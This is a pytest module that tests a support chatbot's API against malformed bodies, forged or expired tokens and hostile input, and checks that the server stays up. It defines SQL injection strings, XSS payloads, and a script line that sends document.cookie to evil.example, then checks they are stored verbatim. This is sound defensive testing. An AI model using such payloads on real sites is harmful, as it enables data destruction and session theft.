"""Bad input against one real server (its own uvicorn process, the real distilled demo bot): every refusal is a
4xx with a JSON body `{"detail": "<what is wrong>"}`, hostile text is stored and returned verbatim, and the
server keeps serving afterwards."""

from __future__ import annotations

import hashlib
import secrets
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import httpx
import pytest
import sqlalchemy
from sqlalchemy.orm import Session

from bot.infra.store import Agent, AgentToken
from tests.helpers.clients import Visitor, login
from tests.helpers.constants import AGENT_PASSWORD as PASSWORD
from tests.helpers.servers import add_agents, served

TIMEOUT = 30
BODY_LIMIT = 64 * 1024
HOSTILE = ["'); DROP TABLE messages; --", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
           "Robert'); DELETE FROM conversations;--", "\" OR 1=1; -- naïve 🤖 \u202etxt.exe 50%_off \\x00"]
HTML_REPLY = "<b>Hi</b> <script>document.location='https://evil.example/?c='+document.cookie</script> &amp; 'quoted'"
HTML_NOTE = "<iframe src=\"javascript:alert('note')\"></iframe> '); DROP TABLE notes; --"


@pytest.fixture(scope="module")
def server(demo_registry, tmp_path_factory):
    db_url = f"sqlite:///{tmp_path_factory.mktemp('bad-input') / 'bot.db'}"
    add_agents(db_url, "carol")
    with served(demo_registry, db_url) as (url, process):
        yield SimpleNamespace(url=url, db_url=db_url, process=process)


@pytest.fixture(scope="module")
def carol(server):
    client = login(server.url, "carol")
    yield client
    client.close()


def refused(response: httpx.Response, status: int, fragment: str = "") -> str:
    """Assert the response is `status` with exactly `{"detail": "<non-empty text>"}` containing `fragment`."""
    assert response.status_code == status, (response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/json"), response.headers
    body = response.json()
    assert set(body) == {"detail"} and isinstance(body["detail"], str) and body["detail"].strip(), body
    assert fragment in body["detail"], body
    return body["detail"]


def post_chat(server, body=None, *, content=None, token: str | None = None, **headers) -> httpx.Response:
    if token:
        headers["Authorization"] = f"Bearer {token}"
    if content is not None:
        headers.setdefault("content-type", "application/json")
        return httpx.post(f"{server.url}/api/chat", content=content, headers=headers, timeout=TIMEOUT)
    return httpx.post(f"{server.url}/api/chat", json=body, headers=headers, timeout=TIMEOUT)


def bearer(token: str | None) -> dict:
    return {"Authorization": f"Bearer {token}"} if token else {}


@pytest.mark.parametrize("body, status, fragment", [
    ({"message": ""}, 422, "message: Value error, must not be empty or only whitespace"),
    ({"message": "   \n\t  "}, 422, "must not be empty or only whitespace"),
    ({"message": "x" * 3000}, 422, "message: is 3000 characters; the limit is 2000"),
    ({"message": "x" * 100_000}, 413, f"request body over {BODY_LIMIT} bytes"),
    ({"message": 42}, 422, "message: Input should be a valid string"),
    ({"message": ["where", "is", "my", "order"]}, 422, "message: Input should be a valid string"),
    ({"message": {"text": "where is my order"}}, 422, "message: Input should be a valid string"),
    ({"message": None}, 422, "message: Input should be a valid string"),
    ({"message": "hi", "session_id": 12345}, 422, "session_id: Input should be a valid string"),
    ({"message": "hi", "colour": "red", "admin": True}, 422, "colour: Extra inputs are not permitted"),
    ({}, 422, "message: Field required"),
], ids=["empty", "whitespace", "over-2000-chars", "100KB", "number", "list", "object", "null", "numeric-session",
        "extra-fields", "no-message"])
def test_bad_chat_bodies_are_refused_with_what_is_wrong(server, body, status, fragment):
    refused(post_chat(server, body), status, fragment)


def test_a_message_at_the_length_limit_is_accepted(server):
    assert post_chat(server, {"message": "where is my order " + "x" * 1982}).status_code == 200


@pytest.mark.parametrize("raw, status, fragment", [
    (b'{"message": "caf\xe9 au lait"}', 422, "body: not valid UTF-8"),  # Latin-1, not UTF-8
    (b"\xc3\x28\xa0\xa1\xff", 422, "body: not valid UTF-8"),
    (b'{"message": "hi"', 422, "body: not valid JSON at character"),
    (b"{'message': 'hi'}", 422, "body: not valid JSON at character"),
    (b'{"message": "hi",}', 422, "body: not valid JSON at character"),
    (b"message=hi", 422, "body: not valid JSON at character"),
    (b"[1, 2]", 422, "body: Input should be a valid dictionary"),
    (b'"where is my order"', 422, "body: Input should be a valid dictionary"),
    (b"null", 422, "body: Input should be a valid dictionary"),
    (b"", 422, "body: Field required"),
], ids=["latin-1-in-string", "invalid-utf8", "truncated", "single-quotes", "trailing-comma", "form-encoded",
        "array", "string", "null", "empty"])
def test_undecodable_or_malformed_bodies_are_refused(server, raw, status, fragment):
    refused(post_chat(server, content=raw), status, fragment)


def _chunks(total: int, size: int = 4096):
    yield b'{"message": "'
    sent = 0
    while sent < total:
        yield b"x" * size
        sent += size
    yield b'"}'


def test_a_chunked_body_under_the_limit_is_read_normally(server):
    def pieces():
        yield b'{"message": '
        yield b'"how much does '
        yield b'shipping cost?"}'

    response = post_chat(server, content=pieces())
    assert response.request.headers.get("transfer-encoding") == "chunked"
    assert "content-length" not in response.request.headers
    assert response.status_code == 200 and response.json()["intent"]["name"] == "shipping_cost"


def test_a_chunked_body_over_the_limit_without_content_length_is_refused(server):
    response = post_chat(server, content=_chunks(100 * 1024))
    assert response.request.headers.get("transfer-encoding") == "chunked"
    assert 400 <= response.status_code < 500
    refused(response, response.status_code)


def test_a_chunked_body_over_the_limit_gets_413(server):
    refused(post_chat(server, content=_chunks(100 * 1024)), 413, f"request body over {BODY_LIMIT} bytes")


@pytest.mark.parametrize("body, fragment", [
    ({"sender": "", "message": "hi"}, "sender: String should have at least 1 character"),
    ({"sender": "s" * 129, "message": "hi"}, "sender: String should have at most 128 characters"),
    ({"sender": "rasa-bad-input", "message": "  "}, "must not be empty or only whitespace"),
    ({"sender": "rasa-bad-input", "message": "y" * 2001}, "message: is 2001 characters; the limit is 2000"),
    ({"sender": 7, "message": "hi"}, "sender: Input should be a valid string"),
    ({"message": "hi"}, "sender: Field required"),
])
def test_bad_rasa_webhook_bodies_are_refused(server, body, fragment):
    refused(httpx.post(f"{server.url}/webhooks/rest/webhook", json=body, timeout=TIMEOUT), 422, fragment)


def test_sessions_are_found_by_id_and_opened_only_with_their_own_token(server):
    me, other = Visitor(server.url), Visitor(server.url)
    me.say("hello")
    other.say("how much does shipping cost?")

    refused(post_chat(server, {"message": "hi", "session_id": "0" * 32}, token=me.token), 404,
            "no conversation with id '00000000000000000000000000000000'")
    refused(httpx.get(f"{server.url}/api/conversations/{'0' * 32}", headers=bearer(me.token)), 404,
            "no conversation with id")
    for token in (me.token, None, "forged-token", ""):
        refused(post_chat(server, {"message": "hi", "session_id": other.session}, token=token), 403,
                "needs its session token")
        refused(httpx.get(f"{server.url}/api/conversations/{other.session}", headers=bearer(token)), 403,
                "needs its session token")
        refused(httpx.put(f"{server.url}/api/conversations/{other.session}/csat", json={"score": 5},
                          headers=bearer(token)), 403, "needs its session token")
    basic = httpx.get(f"{server.url}/api/conversations/{other.session}",
                      headers={"Authorization": f"Basic {other.token}"})
    refused(basic, 403, "needs its session token")  # only a bearer token counts
    # the refusals changed nothing: the owner still sees only their own messages
    history = httpx.get(f"{server.url}/api/conversations/{other.session}", headers=bearer(other.token)).json()
    assert [m["text"] for m in history["messages"] if m["role"] == "user"] == ["how much does shipping cost?"]


def test_feedback_only_on_the_bot_messages_of_ones_own_conversation(server):
    me, other = Visitor(server.url), Visitor(server.url)
    mine = me.say("how much does shipping cost?")
    theirs = other.say("how do I return an item?")
    theirs_id = theirs["replies"][0]["id"]

    refused(me.put(f"/messages/{theirs_id}/feedback", {"value": "down"}), 404,
            f"no message {theirs_id} in this conversation")
    refused(me.put("/messages/999999999/feedback", {"value": "up"}), 404, "no message 999999999")
    history = httpx.get(f"{server.url}/api/conversations/{me.session}", headers=bearer(me.token)).json()
    my_question = next(m["id"] for m in history["messages"] if m["role"] == "user")
    refused(me.put(f"/messages/{my_question}/feedback", {"value": "up"}), 409,
            f"message {my_question} is not the bot's")
    my_answer = mine["replies"][0]["id"]
    refused(me.put(f"/messages/{my_answer}/feedback", {"value": "sideways"}), 422, "value: Input should be 'up'")
    refused(me.put(f"/messages/{my_answer}/feedback", {}), 422, "value: Field required")
    refused(me.put("/messages/not-a-number/feedback", {"value": "up"}), 422,
            "message_id: Input should be a valid integer")
    assert me.put(f"/messages/{my_answer}/feedback", {"value": "up"}).status_code == 204
    # nobody's feedback landed on the other visitor's message
    their_history = httpx.get(f"{server.url}/api/conversations/{other.session}", headers=bearer(other.token)).json()
    assert all(m["feedback"] is None for m in their_history["messages"])


def test_csat_is_1_to_5_as_a_number_and_only_once_resolved(server, carol):
    visitor = Visitor(server.url)
    visitor.say("how much does shipping cost?")
    for score, fragment in ((0, "score: Input should be greater than or equal to 1"),
                            (6, "score: Input should be less than or equal to 5"),
                            ("5", "score: Input should be a valid integer"),
                            (4.5, "score: Input should be a valid integer"),
                            (None, "score: Input should be a valid integer")):
        refused(visitor.put("/csat", {"score": score}), 422, fragment)
    refused(visitor.put("/csat", {"score": 5}), 409, "it can be rated once resolved")
    assert carol.post(f"/conversations/{visitor.session}/resolve").status_code == 200
    refused(visitor.put("/csat", {"score": 0}), 422, "greater than or equal to 1")
    assert visitor.put("/csat", {"score": 5}).status_code == 204


def _expired_token(db_url: str, username: str) -> str:
    """A token of `username` that expired an hour ago, stored the way bot/desk/agents.py stores tokens."""
    token = secrets.token_urlsafe(32)
    engine = sqlalchemy.create_engine(db_url)
    try:
        with Session(engine) as db, db.begin():
            agent = db.scalar(sqlalchemy.select(Agent).where(Agent.username == username))
            db.add(AgentToken(token_hash=hashlib.sha256(token.encode()).hexdigest(), agent_id=agent.id,
                              expires_at=datetime.now(UTC) - timedelta(hours=1)))
    finally:
        engine.dispose()
    return token


def test_agent_endpoints_refuse_a_missing_forged_or_expired_token(server, carol):
    expired = _expired_token(server.db_url, "carol")
    visitor = Visitor(server.url)
    visitor.say("hello")
    attempts = [("get", "/me"), ("get", "/conversations"), ("get", f"/conversations/{visitor.session}"),
                ("post", f"/conversations/{visitor.session}/take"), ("get", "/intents"), ("get", "/review"),
                ("post", "/logout")]
    for headers, fragment in (({}, "agent endpoints need a login token"),
                              ({"Authorization": "Bearer"}, "agent endpoints need a login token"),
                              ({"Authorization": f"Basic {carol.token}"}, "agent endpoints need a login token"),
                              ({"Authorization": "Bearer forged-token"}, "invalid or expired agent token"),
                              ({"Authorization": f"Bearer {carol.token}x"}, "invalid or expired agent token"),
                              ({"Authorization": f"Bearer {expired}"}, "invalid or expired agent token")):
        for method, path in attempts:
            response = httpx.request(method, f"{server.url}/api/agent{path}", headers=headers, timeout=TIMEOUT)
            refused(response, 401, fragment)
            assert response.headers["www-authenticate"] == "Bearer"
    # nobody took the conversation over, the expired token is gone, and the real token still works
    assert carol.get(f"/conversations/{visitor.session}").json()["status"] == "bot"
    engine = sqlalchemy.create_engine(server.db_url)
    with Session(engine) as db:
        digest = hashlib.sha256(expired.encode()).hexdigest()
        assert db.get(AgentToken, digest) is None
    engine.dispose()
    assert carol.get("/me").json()["username"] == "carol"


@pytest.mark.parametrize("body, status, fragment", [
    ({"username": "carol", "password": "not the password"}, 401, "wrong username or password"),
    ({"username": "nobody-here", "password": PASSWORD}, 401, "wrong username or password"),
    ({"username": "carol", "password": ""}, 401, "wrong username or password"),
    ({"username": "carol"}, 422, "password: Field required"),
    ({"username": "carol", "password": 12345678}, 422, "password: Input should be a valid string"),
    ({"username": "carol", "password": "p" * 257}, 422, "password: String should have at most 256 characters"),
    ({"username": "carol", "password": PASSWORD, "role": "admin"}, 422, "role: Extra inputs are not permitted"),
])
def test_login_refusals(server, body, status, fragment):
    refused(httpx.post(f"{server.url}/api/agent/login", json=body, timeout=TIMEOUT), status, fragment)


def test_relabel_refusals(server, carol):
    visitor = Visitor(server.url)
    answer = visitor.say("how much does shipping cost?")
    transcript = carol.get(f"/conversations/{visitor.session}").json()["transcript"]
    question = next(m["id"] for m in transcript if m["role"] == "user")
    bot_message = answer["replies"][0]["id"]

    refused(carol.put(f"/messages/{question}/intent", json={"intent": "world_domination"}), 422,
            "intent: 'world_domination' is not one the model knows")
    refused(carol.put(f"/messages/{bot_message}/intent", json={"intent": "shipping_cost"}), 409,
            f"message {bot_message} is a bot message")
    refused(carol.put("/messages/999999999/intent", json={"intent": "shipping_cost"}), 404,
            "no message with id 999999999")
    refused(carol.put(f"/messages/{question}/intent", json={"intent": 3}), 422,
            "intent: Input should be a valid string")
    refused(carol.put(f"/messages/{question}/intent", json={}), 422, "intent: Field required")
    # none of the refusals left a correction behind
    transcript = carol.get(f"/conversations/{visitor.session}").json()["transcript"]
    assert all(m["correction"] is None for m in transcript)


def test_agent_refusals_for_unknown_conversations_and_bad_queries(server, carol):
    missing = "f" * 32
    refused(carol.get(f"/conversations/{missing}"), 404, f"no conversation with id '{missing}'")
    for action in ("take", "hand-back", "resolve"):
        refused(carol.post(f"/conversations/{missing}/{action}"), 404, "no conversation with id")
    refused(carol.post(f"/conversations/{missing}/messages", json={"text": "hello"}), 404, "no conversation with id")
    refused(carol.post(f"/conversations/{missing}/notes", json={"text": "hello"}), 404, "no conversation with id")
    refused(carol.put(f"/conversations/{missing}/reviewed", json={"reviewed": True}), 404, "no conversation with id")

    for params, fragment in (({"limit": 0}, "limit: Input should be greater than or equal to 1"),
                             ({"limit": 201}, "limit: Input should be less than or equal to 200"),
                             ({"limit": "ten"}, "limit: Input should be a valid integer"),
                             ({"offset": -1}, "offset: Input should be greater than or equal to 0"),
                             ({"status": "deleted"}, "status: Input should be 'bot'"),
                             ({"since": "yesterday"}, "since: Input should be a valid datetime"),
                             ({"q": "q" * 201}, "q: String should have at most 200 characters")):
        refused(carol.get("/conversations", params=params), 422, fragment)
    refused(carol.get("/review", params={"limit": 0}), 422, "limit: Input should be greater than or equal to 1")

    visitor = Visitor(server.url)
    visitor.say("hello")
    refused(carol.post(f"/conversations/{visitor.session}/messages", json={"text": " \n "}), 422,
            "must not be empty or only whitespace")
    refused(carol.post(f"/conversations/{visitor.session}/messages", json={"text": "z" * 2001}), 422,
            "text: is 2001 characters; the limit is 2000")
    refused(carol.post(f"/conversations/{visitor.session}/notes", json={"text": ""}), 422, "must not be empty")
    refused(carol.post(f"/conversations/{visitor.session}/hand-back"), 409, "the bot already has this conversation")
    assert carol.get(f"/conversations/{visitor.session}").json()["status"] == "bot"  # the refused reply took nothing


def test_sql_and_html_are_stored_and_returned_verbatim(server, carol):
    visitor = Visitor(server.url)
    for text in HOSTILE:
        visitor.say(text)  # asserts 200
    sent = carol.post(f"/conversations/{visitor.session}/messages", json={"text": HTML_REPLY})
    assert sent.status_code == 201 and sent.json()["text"] == HTML_REPLY
    noted = carol.post(f"/conversations/{visitor.session}/notes", json={"text": HTML_NOTE})
    assert noted.status_code == 201 and noted.json()["text"] == HTML_NOTE

    history = httpx.get(f"{server.url}/api/conversations/{visitor.session}", headers=bearer(visitor.token),
                        timeout=TIMEOUT)
    assert history.status_code == 200 and history.headers["content-type"] == "application/json"
    messages = history.json()["messages"]
    assert [m["text"] for m in messages if m["role"] == "user"] == HOSTILE
    assert [m["text"] for m in messages if m["role"] == "agent"] == [HTML_REPLY]
    assert HTML_NOTE not in history.text

    transcript = carol.get(f"/conversations/{visitor.session}").json()
    assert [m["text"] for m in transcript["transcript"] if m["role"] == "user"] == HOSTILE
    assert [m["text"] for m in transcript["transcript"] if m["role"] == "agent"] == [HTML_REPLY]
    assert [n["text"] for n in transcript["notes"]] == [HTML_NOTE]

    found = carol.get("/conversations", params={"q": "'); DELETE FROM conversations"}).json()
    assert [c["id"] for c in found["conversations"]] == [visitor.session]
    assert carol.get("/conversations", params={"q": "50%_off \\x00"}).json()["total"] == 1
    assert carol.get("/conversations", params={"q": "_%\\"}).json()["total"] == 0  # LIKE wildcards are literal

    engine = sqlalchemy.create_engine(server.db_url)
    try:
        tables = set(sqlalchemy.inspect(engine).get_table_names())
        assert {"conversations", "messages", "notes", "agents", "agent_tokens", "corrections", "orders"} <= tables
        with engine.connect() as db:
            stored = db.execute(sqlalchemy.text("select text from messages where conversation_id = :id and "
                                                "role = 'user' order by id"), {"id": visitor.session}).scalars()
            assert list(stored) == HOSTILE
            assert db.execute(sqlalchemy.text("select count(*) from conversations")).scalar() > 1
    finally:
        engine.dispose()


def test_zz_after_all_that_the_server_is_up_and_chats_normally(server):
    """Runs last in this module (pytest keeps file order): nothing above took the server down."""
    assert server.process.poll() is None
    health = httpx.get(f"{server.url}/health", timeout=TIMEOUT)
    assert health.status_code == 200 and health.json()["status"] == "ok"
    assert httpx.get(f"{server.url}/ready", timeout=TIMEOUT).status_code == 200
    visitor = Visitor(server.url)
    answer = visitor.say("how much does shipping cost?")
    assert answer["decision"] == "answer" and answer["template"] == "shipping_cost_rates"
    follow_up = visitor.say("where is my order?")
    assert follow_up["decision"] == "form"
    assert server.process.poll() is None
